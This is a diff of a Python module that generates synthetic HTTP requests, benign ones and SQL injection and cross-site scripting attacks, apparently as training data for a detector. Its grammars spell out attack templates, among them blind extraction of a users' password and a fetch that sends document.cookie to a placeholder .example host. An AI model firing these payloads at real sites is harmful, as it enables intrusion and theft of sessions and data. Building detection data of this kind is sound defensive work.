@@ -1,11 +1,10 @@
-"""Made-up HTTP requests: what people ask a web server for, and what attackers put into the same parameters.
+"""Generated HTTP requests: benign requests to a web server, and attacks in the same parameters.
 
-Benign requests hold quotes, SQL words and HTML tags too, and some attack probes are no more than a quote: no
-rule on single words tells the two apart.
+Benign requests contain quotes, SQL words and HTML tags too, and some attack probes are just a quote, so no
+rule on single words separates them.
 """
 
-# The pyarrow stubs lack type arguments at run time, and know neither text literals nor boolean arrays as
-# arguments.
+# The pyarrow stubs lack type arguments, and know neither text literals nor boolean arrays as arguments.
 # pyright: reportMissingTypeArgument=false, reportUnknownParameterType=false, reportCallIssue=false
 # pyright: reportArgumentType=false, reportIndexIssue=false, reportAttributeAccessIssue=false
 
@@ -27,29 +26,56 @@ from wirebert.data.synthetic.text import (
     pick,
 )
 
-_WORDS = """account adapter autumn backup basket battery bicycle blue boots bread bridge cable camera candle carpet chair
-charger coat coffee committee compact contract copper cotton cover cream delivery desk drawer drill dress
-engine event fabric filter flight folder forest frame garden glass green grey hammer handle heater holiday
-hotel income invoice jacket kettle keyboard kitchen ladder lamp leather lemon letter light linen manual market
-meeting memory mirror monitor mountain needle north notebook figure office orange order oven paint paper
-parking pencil phone pillow plate policy poster printer quarter radio railway receipt red refund report river
-roof sample school screen season select service shelf shirt silver socket spring station summer switch table
-tablet tea ticket timber travel trousers umbrella union update valley velvet village wallet warranty watch
-water weekend white window winter wool yellow""".split()
-_NAMES = """O'Brien O'Connor D'Angelo O'Neill L'Oreal Levi's McDonald's Smith Garcia Nguyen Novak Rossi Dubois Tanaka
-Kowalski Jensen Silva Haddad Okafor Lindqvist""".split()
-_CODE = """SELECT * FROM users WHERE id = 1|select count(*) from orders group by day|how to use union select in sql
-|insert into table values example|drop table if exists syntax|order by date desc|where name like '%son'
-|<script> tag async defer|html <img> alt attribute|<b>bold</b> or <strong>|onclick vs onload event|alert() not
-working |javascript:void(0) meaning|document.cookie samesite|sleep(5) python|it's or its|rock 'n' roll|5
-o'clock|a <-> b|x > 1 or y < 2 |"exact phrase"|select committee; union vote|cast('2024-01-01' as date)|--
-comment style|C:/Users/it's me""".replace("\n", "").split("|")
+_WORDS = """
+account adapter autumn backup basket battery bicycle blue boots bread bridge cable camera candle carpet
+chair charger coat coffee committee compact contract copper cotton cover cream delivery desk drawer drill
+dress engine event fabric filter flight folder forest frame garden glass green grey hammer handle heater
+holiday hotel income invoice jacket kettle keyboard kitchen ladder lamp leather lemon letter light linen
+manual market meeting memory mirror monitor mountain needle north notebook figure office orange order
+oven paint paper parking pencil phone pillow plate policy poster printer quarter radio railway receipt
+red refund report river roof sample school screen season select service shelf shirt silver socket spring
+station summer switch table tablet tea ticket timber travel trousers umbrella union update valley velvet
+village wallet warranty watch water weekend white window winter wool yellow
+""".split()
+_NAMES = """
+O'Brien O'Connor D'Angelo O'Neill L'Oreal Levi's McDonald's Smith Garcia Nguyen Novak Rossi Dubois Tanaka
+Kowalski Jensen Silva Haddad Okafor Lindqvist
+""".split()
+_CODE = [
+    "SELECT * FROM users WHERE id = 1",
+    "select count(*) from orders group by day",
+    "how to use union select in sql",
+    "insert into table values example",
+    "drop table if exists syntax",
+    "order by date desc",
+    "where name like '%son'",
+    "<script> tag async defer",
+    "html <img> alt attribute",
+    "<b>bold</b> or <strong>",
+    "onclick vs onload event",
+    "alert() not working",
+    "javascript:void(0) meaning",
+    "document.cookie samesite",
+    "sleep(5) python",
+    "it's or its",
+    "rock 'n' roll",
+    "5 o'clock",
+    "a <-> b",
+    "x > 1 or y < 2",
+    '"exact phrase"',
+    "select committee; union vote",
+    "cast('2024-01-01' as date)",
+    "-- comment style",
+    "C:/Users/it's me",
+]
 _PARAMETERS = (
     "q id name search item page user cat ref sort lang comment msg title city filter token view".split()
 )
-_PATHS = """/ /search /products /product /item /cart /account /login /profile /news /blog /forum /wiki /docs /contact
+_PATHS = """
+/ /search /products /product /item /cart /account /login /profile /news /blog /forum /wiki /docs /contact
 /comment /api/v1/search /api/v2/items /api/v2/users /orders /reports /download /help/search /index.php
-/view.php /article.asp /list.jsp""".split()
+/view.php /article.asp /list.jsp
+""".split()
 _SECTIONS = "css js img fonts media assets static themes uploads".split()
 _EXTENSIONS = "css js png jpg svg woff2 webp ico json".split()
 
@@ -62,8 +88,10 @@ _BROWSERS = [
     for system in ("Windows NT 10.0; Win64; x64", "X11; Ubuntu; Linux x86_64")
     for version in range(115, 133)
 ]
-_PROGRAMS = """curl/7.88.1 curl/8.5.0 python-requests/2.31.0 python-requests/2.32.3 Go-http-client/1.1 okhttp/4.12.0
-Java/17.0.9 Wget/1.21.4 axios/1.7.2 PostmanRuntime/7.39.0""".split()
+_PROGRAMS = """
+curl/7.88.1 curl/8.5.0 python-requests/2.31.0 python-requests/2.32.3 Go-http-client/1.1 okhttp/4.12.0
+Java/17.0.9 Wget/1.21.4 axios/1.7.2 PostmanRuntime/7.39.0
+""".split()
 _SCANNERS = ["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "Nikto/2.5.0", "Mozilla/5.0"]
 
 
@@ -84,7 +112,7 @@ def benign_uris(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def sql_injection_uris(generator: np.random.Generator, count: int) -> pa.Array:
-    """Request targets that carry SQL; about one in eight is a mild probe that a visitor may send too."""
+    """Request targets with SQL; one in eight is a mild probe that a visitor may send too."""
     grammars: list[tuple[float | int, TextGrammar]] = [
         (0.27, _tautology),
         (0.25, _union),
@@ -96,8 +124,7 @@ def sql_injection_uris(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def cross_site_scripting_uris(generator: np.random.Generator, count: int) -> pa.Array:
-    """Request targets that carry HTML or script; about one in eight is a mild probe that a visitor may send
-    too."""
+    """Request targets with HTML or script; one in eight is a mild probe that a visitor may send too."""
     grammars: list[tuple[float | int, TextGrammar]] = [
         (0.3, _script_tag),
         (0.38, _event_handler),
@@ -109,7 +136,7 @@ def cross_site_scripting_uris(generator: np.random.Generator, count: int) -> pa.
 def user_agents(
     generator: np.random.Generator, count: int, *, programs: float, scanners: float = 0.0
 ) -> pa.Array:
-    """Names of clients: the shares of programs and of scanning tools, the rest browsers."""
+    """User agents: the given fractions of programs and of scanning tools, otherwise browsers."""
     drawn = generator.random(count)
     browser, program, scanner = (pick(generator, pool, count) for pool in (_BROWSERS, _PROGRAMS, _SCANNERS))
     others = pc.if_else(pa.array(drawn < programs), program, browser)
@@ -130,19 +157,19 @@ def _attack_uris(
 
 
 def _target(generator: np.random.Generator, values: pa.Array) -> pa.Array:
-    """A path and a query that holds `values` in one parameter, with another parameter before or after it
-    sometimes."""
+    """A path and a query with `values` in one parameter, sometimes with another parameter before or after
+    it."""
     count = len(values)
     extra = join(pick(generator, _PARAMETERS, count), "=", pick(generator, _WORDS, count))
-    place = generator.random(count)
-    before = pc.if_else(pa.array(place < 0.2), join(extra, "&"), "")
-    after = pc.if_else(pa.array(place > 0.75), join("&", extra), "")
+    position = generator.random(count)
+    before = pc.if_else(pa.array(position < 0.2), join(extra, "&"), "")
+    after = pc.if_else(pa.array(position > 0.75), join("&", extra), "")
     return join(
         pick(generator, _PATHS, count), "?", before, pick(generator, _PARAMETERS, count), "=", values, after
     )
 
 
-# What visitors ask for
+# Benign requests
 
 
 def _assets(generator: np.random.Generator, count: int) -> pa.Array:
@@ -179,12 +206,12 @@ def _odd_searches(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _ambiguous(generator: np.random.Generator, count: int) -> pa.Array:
-    """What a visitor types and what a careful attacker starts with; drawn alike for both."""
-    figure, word = number(generator, count, 1, 50_000), pick(generator, _WORDS, count)
+    """Input of visitors, and of attackers at first; drawn in the same way for both."""
+    digits, word = number(generator, count, 1, 50_000), pick(generator, _WORDS, count)
     ending = pick(
         generator, ["'", '"', "')", "' ", "''", "<b>", '">', "<i>x</i>", "%", "\\'", "--", "<"], count
     )
-    values = join(pc.if_else(pa.array(generator.random(count) < 0.5), figure, word), ending)
+    values = join(pc.if_else(pa.array(generator.random(count) < 0.5), digits, word), ending)
     return _target(generator, encoded(generator, values, raw=0.2, twice=0.02))
 
 
@@ -192,9 +219,9 @@ def _ambiguous(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _break_out(generator: np.random.Generator, count: int) -> pa.Array:
-    """A value and what ends the string or bracket it stands in."""
-    figure, word = number(generator, count, -1, 9_999), pick(generator, [*_WORDS, *_NAMES, ""], count)
-    value = pc.if_else(pa.array(generator.random(count) < 0.6), figure, word)
+    """A value, and the end of its string or bracket."""
+    digits, word = number(generator, count, -1, 9_999), pick(generator, [*_WORDS, *_NAMES, ""], count)
+    value = pc.if_else(pa.array(generator.random(count) < 0.6), digits, word)
     return join(value, pick(generator, ["'", "'", "'", '"', "')", "'))", "", "", ")", "%'"], count))
 
 
@@ -207,9 +234,9 @@ def _comment(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _tautology(generator: np.random.Generator, count: int) -> pa.Array:
-    figure = number(generator, count, 1, 9_999)
+    digits = number(generator, count, 1, 9_999)
     word = pick(generator, _WORDS, count)
-    equal = join(figure, pick(generator, ["=", " = ", " like ", "<=>", ">="], count), figure)
+    equal = join(digits, pick(generator, ["=", " = ", " like ", "<=>", ">="], count), digits)
     quoted = join("'", word, "'='", word)
     always = pick(generator, ["1", "true", "not 0", "2>1", "'x'", "1 is not null"], count)
     condition = either(generator, 0.55, equal, either(generator, 0.6, quoted, always))
@@ -282,13 +309,13 @@ def _delay(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _blind(generator: np.random.Generator, count: int) -> pa.Array:
-    place, letter = number(generator, count, 1, 40), number(generator, count, 32, 126)
+    position, letter = number(generator, count, 1, 40), number(generator, count, 32, 126)
     target = pick(
         generator, ["(select password from users limit 1)", "user()", "database()", "version()"], count
     )
-    ascii_test = join("ascii(substring(", target, ",", place, ",1))>", letter)
-    length_test = join("length(", target, ")=", place)
-    order = join("order by ", place)
+    ascii_test = join("ascii(substring(", target, ",", position, ",1))>", letter)
+    length_test = join("length(", target, ")=", position)
+    order = join("order by ", position)
     test = either(
         generator, 0.5, join("and ", ascii_test), either(generator, 0.5, join("and ", length_test), order)
     )
@@ -299,20 +326,20 @@ def _blind(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _script_call(generator: np.random.Generator, count: int) -> pa.Array:
-    figure, word = number(generator, count, 0, 9_999), pick(generator, _WORDS, count)
+    digits, word = number(generator, count, 0, 9_999), pick(generator, _WORDS, count)
     function = pick(
         generator, ["alert", "prompt", "confirm", "console.log", "top.alert", "window['alert']"], count
     )
     argument = either(
         generator,
         0.5,
-        figure,
+        digits,
         pick(generator, ["document.domain", "document.cookie", "/xss/", "'x'", "1"], count),
     )
     brackets = join(function, "(", argument, ")")
     theft = join("fetch('//", word, ".example/'+document.cookie)")
     hidden = join("eval(atob('", hexadecimal(generator, count), "'))")
-    codes = join("eval(String.fromCharCode(97,108,", figure, "))")
+    codes = join("eval(String.fromCharCode(97,108,", digits, "))")
     return either(
         generator, 0.6, brackets, either(generator, 0.5, theft, either(generator, 0.5, hidden, codes))
     )
